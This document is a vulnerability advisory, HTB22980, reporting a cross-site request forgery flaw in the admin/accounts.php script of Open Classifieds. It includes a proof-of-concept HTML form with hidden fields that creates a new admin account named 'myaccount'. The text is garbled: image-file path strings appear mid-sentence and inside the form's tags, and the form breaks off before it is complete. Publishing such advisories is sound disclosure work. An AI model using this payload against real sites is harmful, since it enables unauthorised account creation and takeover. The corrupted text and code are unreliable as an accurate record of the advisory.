HTB22980: XSRF (CSRF) in Open Classifieds

Subject: HTB22980: XSRF (CSRF) in Open Classifieds

Vulnerability ID: HTB22980
Product: Open Classifieds
Vendor: Open Classifieds Team ( )
Vulnerable Version: and probably prior versions
Vendor Notification: 28 April 2011
Vulnerability Type: CSRF (Cross-Site Request Forgery)
Risk level: Low
Credit: High-Tech Bridge SA Security Research Lab ( )

Vulnerability Details:
The vulnerability exists due to failure in the "admin/accounts.php" script to properly verify the source of HTTP request.Successful exploitation of this vulnerability couldresult in a compromise of the application, theft of cookie-based authentication credentials, disclosure or modification of sensitive data.

Attacker can use browser to exploit this vulnerability. The following PoC is available:

<form action="http://host/admin/accounts.php" method="post" name="main">
<input type="hidden" name="name" value="myaccount">
<input type="hidden" name="email" value="">
<input type="hidden" name="account"value="">
<input type="hidden"name="action" value="new">Copyright © 1995-2020 All rights reserved.